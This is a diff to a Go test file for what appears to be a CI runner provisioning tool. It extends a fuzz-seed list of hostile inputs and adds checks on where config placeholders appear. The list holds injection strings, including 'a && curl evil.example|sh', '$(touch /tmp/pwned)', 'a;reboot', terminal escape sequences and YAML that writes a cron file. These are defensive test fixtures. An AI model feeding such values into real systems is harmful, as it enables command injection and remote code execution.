@@ -29,7 +29,7 @@ var hostileValues = []string{
 	"$(touch /tmp/pwned)", "`id`", "a;reboot", "a && curl evil.example|sh", "x' y", `x" y`, "a\\b",
 	"a\nb", "a\rb", "a\tb", "line\u2028break", "para\u2029break", "next\u0085line", "bidi\u202egnp.exe",
 	"esc\x1b[31mred", "osc\x1b]8;;https://evil.example\x07link", "nul\x00byte",
-	"k1,provision:stack,other", "@RUNNER_TOKEN@", "x@RUNNER_TOKEN@y",
+	"k1,provision:stack,other", "@RUNNER_TOKEN@", "x@RUNNER_TOKEN@y", "@AUTOSCALING_GROUP@", "@PRIVATE_IP@", "@TOKEN_EXPIRES_AT@",
 	"https://gitlab.example.com/$(id)", "https://gitlab.example.com/?q=`id`", "https://gitlab.example.com/#a;b",
 	"https://gitlab.example.com/a b", "https://gitlab.example.com/%0aid", "https://git\u2028lab.example.com",
 	"alpine:latest\n  - path: /etc/cron.d/x", "alpine\u2028write_files:", "registry.example.com:5000/ci/node:22",
@@ -225,6 +225,20 @@ func checkUserData(t *testing.T, cfg *config.Config, ud []byte, template string,
 			t.Fatalf("config.toml holds %s %d times: the boot would put the token where it does not belong", p, n)
 		}
 	}
+	// The group and the listen address, at most where the tool puts them.
+	wantGroup, wantListen := 0, 0
+	if cfg.Autoscaler() {
+		wantGroup = 1
+	}
+	if len(cfg.Manager.MetricsCIDRs) > 0 {
+		wantListen = 1
+	}
+	if n := strings.Count(template, bootstrap.GroupPlaceholder); n != wantGroup {
+		t.Fatalf("config.toml holds %s %d times, want %d", bootstrap.GroupPlaceholder, n, wantGroup)
+	}
+	if n := strings.Count(template, bootstrap.ListenPlaceholder); n != wantListen {
+		t.Fatalf("config.toml holds %s %d times, want %d", bootstrap.ListenPlaceholder, n, wantListen)
+	}
 	var doc struct {
 		Runners []struct {
 			URL     string
@@ -342,7 +356,7 @@ func tryValue(t *testing.T, targets []fuzzTarget, v string) {
 
 // Whatever validates renders user-data whose YAML holds exactly the
 // intended files, whose scripts pass bash -n and whose config.toml decodes
-// to the same values: `go test -fuzz FuzzConfigValues ./pkg/provision`
+// to the same values: `go test -fuzz FuzzConfigValues ./pkg/provision/stack`
 // explores further than the seeds, which run with every `go test`.
 func FuzzConfigValues(f *testing.F) {
 	if _, err := exec.LookPath("bash"); err != nil {
